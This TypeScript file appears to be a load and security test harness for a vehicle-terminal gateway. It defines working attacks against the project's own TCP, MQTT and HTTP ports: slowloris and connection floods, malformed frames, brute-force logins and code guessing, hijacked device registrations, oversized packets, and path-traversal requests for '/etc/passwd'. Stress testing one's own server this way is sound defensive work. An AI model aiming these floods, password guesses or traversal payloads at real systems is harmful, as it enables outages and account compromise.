/**
 * Attacks on the public ports, each at a stated load, from an address of its own (127.0.0.66), so that what they use up
 * is theirs. The same attack runs against a bare server that only reads, as the control of a measurement.
 */
import { randomBytes } from 'node:crypto';
import { connect, type Socket } from 'node:net';
import { frameOf, authentication, locationBody, registration } from '../gateway/support/frames.js';
import { TerminalClient } from '../gateway/support/terminal-client.js';

export interface Target {
  host: string;
  /** The port that the attack is for: terminals, MQTT or HTTP. */
  port: number;
  /** A bare server answers nothing: nobody can log in there. */
  bare: boolean;
  /** Vehicles on file that the attacker holds himself: a stolen truck, a bad integrator. */
  insiders: readonly string[];
  /** Numbers of honest terminals, which the attacker knows. */
  victims: readonly string[];
}

export interface Attack {
  readonly name: string;
  readonly door: 'tcp' | 'mqtt' | 'http';
  /** What it does, at scale 1. */
  readonly words: string;
  /** Begins; `scale` makes everything less (tests). */
  start(target: Target, scale: number): Running;
}

export interface Running {
  /** Connections opened so far, and those that the other side ended or refused. */
  readonly counts: { opened: number; ended: number };
  stop(): void;
}

interface Plan {
  /** Kept open at the same time, and opened in a second at most. */
  connections: number;
  connectsPerS: number;
  /** Each open connection sends this every so often. */
  everyMs: number;
  send(socket: Socket, n: number): void;
  /** First, on each connection; sending begins when it resolves. */
  enter?(socket: Socket, n: number): void;
}

const FROM = '127.0.0.66';
const TICK_MS = 20;
/** A socket that takes nothing is not filled for ever: the attacker's memory is not what is tested. */
const BEHIND_BYTES = 512 * 1024;

/** Keeps connections open and busy. */
function swarm(target: Target, scale: number, plan: Plan): Running {
  const connections = Math.max(1, Math.round(plan.connections * scale));
  const perTick = (Math.max(1, plan.connectsPerS * scale) * TICK_MS) / 1000;
  const open = new Map<Socket, { n: number; nextAt: number }>();
  const counts = { opened: 0, ended: 0 };
  let pending = 0;
  // The first one comes at once, however small the scale.
  let budget = 1;
  const begin = (): void => {
    const n = counts.opened++;
    pending++;
    const socket = connect({ host: target.host, port: target.port, localAddress: FROM });
    const began = (): void => {
      pending--;
      // Spread over the interval from the first one on.
      open.set(socket, { n, nextAt: performance.now() + Math.random() * plan.everyMs });
      plan.enter?.(socket, n);
    };
    socket.once('connect', began);
    socket.on('data', () => {});
    socket.on('error', () => {});
    socket.on('close', () => {
      if (!open.delete(socket)) pending--;
      counts.ended++;
    });
  };
  const timer = setInterval(() => {
    budget = Math.min(budget + perTick, Math.max(1, perTick * 5));
    for (; budget >= 1 && open.size + pending < connections; budget--) begin();
    const now = performance.now();
    for (const [socket, state] of open) {
      if (now < state.nextAt || socket.writableLength > BEHIND_BYTES) continue;
      state.nextAt = Math.max(state.nextAt + plan.everyMs, now - plan.everyMs);
      plan.send(socket, state.n);
    }
  }, TICK_MS);
  return {
    counts,
    stop() {
      clearInterval(timer);
      for (const socket of open.keys()) socket.destroy();
    },
  };
}

const noise = randomBytes(16 * 1024).map((byte) => (byte === 0x7e ? 0 : byte));
const escapes = Buffer.concat(Array.from({ length: 4 }, () => Buffer.concat([Buffer.of(0x7e), Buffer.alloc(4_000, 0x7d), Buffer.of(0x7e)]))); // prettier-ignore
const at = Math.floor(Date.now() / 1000) * 1000 - 3_600_000;
const pick = (numbers: readonly string[], n: number): string => numbers[n % numbers.length] ?? '13700000000';
const form = (phone: string) => ({ phone, edition: 2013 }) as const;

/** Frames that only a terminal that is logged in may send. At a bare server they are sent without. */
function insiders(
  target: Target,
  scale: number,
  { perS, frames }: { perS: number; frames: (phone: string, n: number) => Uint8Array },
): Running {
  // prettier-ignore
  const counts = { opened: 0, ended: 0 };
  const sockets: Socket[] = [];
  const timers: NodeJS.Timeout[] = [];
  const { insiders: phones } = target;
  const each = (perS * scale) / phones.length;
  const feed = (socket: Socket, phone: string): void => {
    let n = 0;
    let budget = 0;
    timers.push(
      setInterval(() => {
        budget = Math.min(budget + (each * TICK_MS) / 1000, Math.max(1, each));
        const batch: Uint8Array[] = [];
        for (; budget >= 1; budget--) batch.push(frames(phone, n++));
        if (batch.length > 0 && socket.writableLength < BEHIND_BYTES) socket.write(Buffer.concat(batch));
      }, TICK_MS),
    );
  };
  for (const phone of phones) {
    counts.opened++;
    if (target.bare) {
      const socket = connect({ host: target.host, port: target.port, localAddress: FROM });
      sockets.push(socket);
      socket.on('error', () => {});
      socket.once('connect', () => feed(socket, phone));
    } else {
      void TerminalClient.open(target.port, form(phone)).then(async (client) => {
        sockets.push(client.socket);
        await client.enrol();
        // Answers are not read into memory for the length of the attack.
        client.socket.removeAllListeners('data');
        client.socket.on('data', () => {});
        client.socket.on('close', () => counts.ended++);
        feed(client.socket, phone);
      }, () => counts.ended++); // prettier-ignore
    }
  }
  return {
    counts,
    stop() {
      for (const timer of timers) clearInterval(timer);
      for (const socket of sockets) socket.destroy();
    },
  };
}

/** MQTT 3.1.1 CONNECT with user name and password. */
function mqttConnect(user: string, password: string): Buffer {
  const text = (value: string): Buffer => Buffer.concat([Buffer.of(value.length >> 8, value.length & 255), Buffer.from(value)]); // prettier-ignore
  const rest = Buffer.concat([text('MQTT'), Buffer.of(4, 0xc2, 0, 60), text(user), text(user), text(password)]);
  return Buffer.concat([Buffer.of(0x10, rest.length), rest]);
}

const request = (head: string, body: Buffer | string = ''): Buffer =>
  Buffer.concat([
    Buffer.from(`${head}\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\n\r\n`),
    Buffer.from(body),
  ]);
const megabytes = request('POST /api/v1/orders HTTP/1.1', Buffer.alloc(2 << 20, 0x20));
const climbs = ['/../../../etc/passwd', '/%2e%2e/%2e%2e/etc/passwd', '/assets/..%2f..%2f..%2fpackage.json', '/api/v1/orders/..%2f..%2fusers']; // prettier-ignore

/** All of them; the loads are far above what honest clients do, and what one machine can send beside 1,000 terminals. */
export const ATTACKS: readonly Attack[] = [
  {
    name: 'slowloris',
    door: 'tcp',
    words: '2,000 connections that send a byte a second',
    start: (target, scale) =>
      swarm(target, scale, {
        connections: 2_000,
        connectsPerS: 1_000,
        everyMs: 1_000,
        send: (socket) => socket.write(Buffer.of(0x7e)),
      }),
  },
  {
    name: 'connects',
    door: 'tcp',
    words: '2,000 connects a second, left at once',
    start: (target, scale) =>
      swarm(target, scale, {
        connections: 500,
        connectsPerS: 2_000,
        everyMs: 1,
        send: (socket) => socket.destroy(),
      }),
  },
  {
    name: 'garbage',
    door: 'tcp',
    words: '50 connections, 16 KiB of random bytes every 50 ms each',
    start: (target, scale) =>
      swarm(target, scale, {
        connections: 50,
        connectsPerS: 200,
        everyMs: 50,
        send: (socket) => socket.write(noise),
      }),
  },
  {
    name: 'escapes',
    door: 'tcp',
    words: '50 connections, frames of nothing but escape bytes',
    start: (target, scale) =>
      swarm(target, scale, {
        connections: 50,
        connectsPerS: 200,
        everyMs: 50,
        send: (socket) => socket.write(escapes),
      }),
  },
  {
    name: 'strangers',
    door: 'tcp',
    words: '100 connections, 100 sound locations a second each without a login',
    start: (target, scale) =>
      swarm(target, scale, {
        connections: 100,
        connectsPerS: 200,
        everyMs: 100,
        send: (socket, n) => {
          const frame = frameOf(form(`1370000${n % 10_000}`), 0x0200, 1, locationBody({ at }));
          socket.write(Buffer.concat(Array.from({ length: 10 }, () => frame)));
        },
      }),
  },
  {
    name: 'guesses',
    door: 'tcp',
    words: '300 connections a second that try codes for honest numbers',
    start: (target, scale) =>
      swarm(target, scale, {
        connections: 300,
        connectsPerS: 300,
        everyMs: 100,
        send: (socket, n) =>
          socket.write(authentication(form(pick(target.victims, n)), 1, randomBytes(16).toString('hex'))),
      }),
  },
  {
    name: 'stolenNumbers',
    door: 'tcp',
    words: '100 connections a second that register honest numbers as another device',
    start: (target, scale) =>
      swarm(target, scale, {
        connections: 100,
        connectsPerS: 100,
        everyMs: 200,
        send: (socket, n) =>
          socket.write(
            registration(form(pick(target.victims, n)), 1, { maker: 'EVIL1', model: 'X', terminalId: 'E000001' }),
          ),
      }),
  },
  {
    name: 'tenfold',
    door: 'tcp',
    words: 'terminals on file that send 10,000 sound locations a second',
    start: (target, scale) =>
      insiders(target, scale, {
        perS: 10_000,
        frames: (phone, n) => frameOf(form(phone), 0x0200, n & 0xffff, locationBody({ at: at + n * 1000 })),
      }),
  },
  {
    name: 'subPackages',
    door: 'tcp',
    words: 'terminals on file that begin 2,000 messages of 8,000 parts a second and finish none',
    start: (target, scale) =>
      insiders(target, scale, {
        perS: 2_000,
        frames: (phone, n) =>
          frameOf(form(phone), 0x0801, n & 0xffff, Buffer.alloc(800, n & 0xff), { total: 8_000, index: 1 + (n % 3) }),
      }),
  },
  {
    name: 'mqttPackets',
    door: 'mqtt',
    words: '100 connections that declare packets of 256 MB and send them',
    start: (target, scale) =>
      swarm(target, scale, {
        connections: 100,
        connectsPerS: 200,
        everyMs: 50,
        enter: (socket) => socket.write(Buffer.of(0x30, 0xff, 0xff, 0xff, 0x7f)),
        send: (socket) => socket.write(noise),
      }),
  },
  {
    name: 'mqttGuesses',
    door: 'mqtt',
    words: '200 logins a second with honest numbers and guessed secrets',
    start: (target, scale) =>
      swarm(target, scale, {
        connections: 200,
        connectsPerS: 200,
        everyMs: 10_000,
        enter: (socket, n) => socket.write(mqttConnect(pick(target.victims, n), randomBytes(12).toString('hex'))),
        send: () => {},
      }),
  },
  {
    name: 'httpSlow',
    door: 'http',
    words: '1,000 requests whose head never ends, a byte a second',
    start: (target, scale) =>
      swarm(target, scale, {
        connections: 1_000,
        connectsPerS: 500,
        everyMs: 1_000,
        enter: (socket) => socket.write('GET / HTTP/1.1\r\n'),
        send: (socket) => socket.write('a'),
      }),
  },
  {
    name: 'httpBodies',
    door: 'http',
    words: '50 bodies of 2 MB a second',
    start: (target, scale) =>
      swarm(target, scale, {
        connections: 50,
        connectsPerS: 50,
        everyMs: 1_000,
        send: (socket) => socket.write(megabytes),
      }),
  },
  {
    name: 'httpPaths',
    door: 'http',
    words: '500 requests a second that climb out of the console’s folder',
    start: (target, scale) =>
      swarm(target, scale, {
        connections: 50,
        connectsPerS: 50,
        everyMs: 100,
        send: (socket, n) => socket.write(request(`GET ${climbs[n % climbs.length]} HTTP/1.1`)),
      }),
  },
  {
    name: 'signIns',
    door: 'http',
    words: '100 sign-ins a second with guessed passwords',
    start: (target, scale) =>
      swarm(target, scale, {
        connections: 50,
        connectsPerS: 50,
        everyMs: 500,
        send: (socket, n) =>
          socket.write(request('POST /api/v1/session HTTP/1.1', JSON.stringify({ name: `admin${n % 3 || ''}`, password: randomBytes(8).toString('hex') }))), // prettier-ignore
      }),
  },
];
